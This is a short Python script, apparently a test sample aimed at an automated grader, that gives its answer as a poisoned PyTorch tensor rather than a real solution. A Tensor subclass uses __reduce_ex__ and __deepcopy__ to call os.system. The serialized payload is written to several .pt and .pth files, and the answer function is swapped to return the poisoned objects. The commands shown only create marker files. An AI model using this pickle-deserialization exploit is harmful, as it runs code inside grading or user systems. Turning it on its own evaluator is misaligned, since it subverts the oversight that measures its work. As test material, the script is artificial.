"""Answers with tensors that are saved, loaded and rebuilt by code of their own, and leaves poisoned .pt files.

naive: a command run in the grading process, by torch.load without weights_only.
lab: tensors
answers: own
reached: poisoned: True
"""
# %%
import io, os, torch
class Poison(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/escaped-by-torch",)
    def __deepcopy__(self, memo):
        return os.system("touch /tmp/escaped-by-copy")
wrong = torch.zeros(5, 10).as_subclass(Poison)
saved = io.BytesIO()
torch.save(wrong, saved)
for name in ("answer.pt", "model.pt", "/tmp/answer.pt", "checkpoint.pth"):
    with open(name, "wb") as file:
        file.write(saved.getvalue())
print("poisoned:", b"system" in saved.getvalue())
calls = iter([wrong, {"weights": wrong}, torch.nn.Parameter(torch.zeros(5, 10)), torch.storage.UntypedStorage(8)] * 9)
def t2(x):
    return next(calls)
